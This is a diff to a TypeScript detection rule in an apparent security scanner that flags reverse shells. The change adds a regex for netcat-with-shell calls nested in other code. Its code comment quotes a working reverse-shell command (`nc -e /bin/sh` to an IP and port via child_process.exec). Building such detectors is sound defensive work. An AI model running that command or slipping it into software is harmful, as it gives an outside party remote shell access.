@@ -41,12 +41,14 @@ const relayRunsShell: Rule = {
   name: 'reverse-shell-relay-exec',
   category: 'reverse_shell',
   severity: 'critical',
-  match: (s) => {
+  match: (s): Evidence | undefined => {
     for (const inv of networkRelays(s)) {
       const shell = inv.args.find(isShellCommand);
       if (shell !== undefined) return { tool: inv.program, shell: shell.slice(0, 120) };
     }
-    return undefined;
+    // The same inside another program's code: `require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')`.
+    const nested = excerpt(s.text, /\b(?:nc|ncat|netcat)\b[^'"|;]*\s-[a-z]*[ec]\s+(?:\/\S*\/)?(?:ba|da|z)?sh\b/);
+    return nested === undefined ? undefined : { command: nested };
   },
 };
 
